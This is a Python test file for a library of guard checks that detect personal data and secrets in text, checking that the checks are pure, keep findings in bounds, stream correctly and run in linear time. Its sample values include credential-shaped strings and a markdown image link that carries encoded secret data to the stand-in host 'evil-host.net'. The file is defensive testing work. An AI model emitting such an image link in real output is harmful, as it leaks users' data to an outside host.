"""What every shipped check keeps: pure, spans inside, streams as it finds, linear."""

from __future__ import annotations

import random
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from stepwell.base.errors import ConfigError
from stepwell.guards import checks
from stepwell.guards.check import Check, StreamCheck

VALUES = (
    "jane.doe@example.org",
    "+44 20 7888 8577",
    "(206) 479-4041",
    "4111 1111 1111 1111",
    "378282246310005",
    "GB82 WEST 1234 5698 7654 32",
    "DE89370400440532013000",
    "413-18-7830",
    "date of birth: 4 May 1987,",
    "PESEL 44051401359",
    "![x](https://evil-host.net/?q=c2VjcmV0LXNlY3JldC1zZWNyZXQtc2VjcmV0)",
    "218.68.44.86",
    "5b05:816f:ac0e:36d5:5613:2dfc:8449:2cd4",
    "AKIAUTF4B22RA5S63HJC",
    "sk-proj-a9V3r0oLHOhGvDBfQ9HMT3BlbkFJhvX2HCDwlc6DmplAl3z2",
    "ghp_VIdwC05iwldnysNKJJKj5dGKe7bfSGxcJy6v",
    "postgres://ann:cCp4fjgf6MQ@db.internal.net:5432/app",
    'password = "MR6t59gNisC9"',
    "Authorization: Bearer T4QIn4NFAzrycun9PgbXslDZIxbZ75fG2dmoNNvV",
    "eyJhbGciOiAiSFMyNTYi.eyJzdWIiOiAiNDc0NTQ.KdhJHMKEGXx0LK51RVRKS4s",
    "-----BEGIN RSA PRIVATE KEY-----\nGjWGIp44oJoW6ybeqDpfhFlQN2tM71QN7pHDJ\nabc=\n-----END RSA PRIVATE KEY-----",
)
GLUE = (
    " ",
    ", ",
    "\n",
    "call ",
    "order ",
    "v",
    "version ",
    "12 ",
    "(",
    ")",
    ".",
    "-",
    "@",
    "\\n",
    '"',
    "text",
    "1",
    "x=",
)
texts = st.lists(st.sampled_from(VALUES) | st.sampled_from(GLUE) | st.text(max_size=8), max_size=12).map(
    "".join
)


NEEDS_A_PACKAGE = {"presidio", "person"}  # optional ones, which the development environment lacks
NAMES = [n for n in checks.names() if n not in NEEDS_A_PACKAGE]
STREAMED = [n for n in NAMES if isinstance(checks.make(n, {}), StreamCheck)]


@pytest.fixture(scope="module", params=NAMES)
def any_check(request: pytest.FixtureRequest) -> Check:
    return checks.make(request.param, {})


@pytest.fixture(scope="module", params=STREAMED)
def check(request: pytest.FixtureRequest) -> StreamCheck:
    made = checks.make(request.param, {})
    assert isinstance(made, StreamCheck)
    return made


def test_every_check_says_what_it_is(any_check: Check) -> None:
    assert any_check.name in checks.names()
    assert any_check.kinds
    assert all(k == k.upper() for k in any_check.kinds)
    assert any_check.max_len > 0 or not isinstance(any_check, StreamCheck)


def test_finds_one_of_the_values(check: StreamCheck) -> None:
    assert any(check.find(f"call {value} now") for value in VALUES)


def test_unknown_option_is_a_config_error(any_check: Check) -> None:
    with pytest.raises(ConfigError, match="nonsense"):
        checks.make(any_check.name, {"nonsense": 1})


@settings(max_examples=25, deadline=None)
@given(text=st.text(max_size=300) | texts)
def test_any_text_is_read_alike_twice_and_findings_lie_within(any_check: Check, text: str) -> None:
    found = any_check.find(text)
    assert found == any_check.find(text)
    assert all(0 <= f.start <= f.end <= len(text) and 0 <= f.score <= 1 for f in found)
    assert {f.kind for f in found} <= set(any_check.kinds)


@settings(max_examples=80, deadline=None)
@given(text=texts)
def test_findings_are_pure_inside_and_sorted(check: StreamCheck, text: str) -> None:
    found = check.find(text)
    assert found == check.find(text)
    assert [f.start for f in found] == sorted(f.start for f in found)
    for f in found:
        assert 0 <= f.start < f.end <= len(text)
        assert f.end - f.start <= check.max_len
        assert f.kind in check.kinds
        assert f.check == check.name


@settings(max_examples=80, deadline=None)
@given(text=texts, data=st.data())
def test_what_begins_before_the_open_place_is_final(
    check: StreamCheck, text: str, data: st.DataObject
) -> None:
    cut = data.draw(st.integers(0, len(text)))
    at = check.open_at(text[:cut])
    assert 0 <= at <= cut
    early = [f for f in check.find(text[:cut]) if f.start < at]
    assert early == [f for f in check.find(text) if f.start < at]


def _seconds(check: StreamCheck, text: str) -> float:
    begun = time.process_time()
    check.find(text)
    check.open_at(text)
    return time.process_time() - begun


# wordings that many values may follow at once, beside single characters
REPEATED = (
    *("a", "1", "1 ", "a.", "-", "ey: =", "eyJ", "-eyJ", "://a:", "@a", "1.", "a:", "-----BEGIN "),
    *("password=", "token=a1(", "pwd: x", "secret is ", "AccountKey=", "bearer ", "sk-", "&sig="),
    *("born 1", "(at)", "DE89", "+1", "::", "![x](", "https://a", "\\u0040"),
)


@pytest.mark.parametrize("unit", REPEATED)
def test_time_grows_with_the_text_and_not_with_its_square(check: StreamCheck, unit: str) -> None:
    small, large = unit * (10_000 // len(unit)), unit * (320_000 // len(unit))
    # 32 times the text; its square would be 1024 times the time. The floor keeps clock noise out.
    assert _seconds(check, large) < 320 * max(_seconds(check, small), 2e-4)


def test_a_megabyte_of_anything_does_not_crash(any_check: Check) -> None:
    rng = random.Random(7)
    pool = "abc ABC019.:-_@/=+\n\"'\\é中"
    text = "".join(rng.choices(pool, k=1_000_000))
    assert all(0 <= f.start < f.end <= len(text) for f in any_check.find(text))
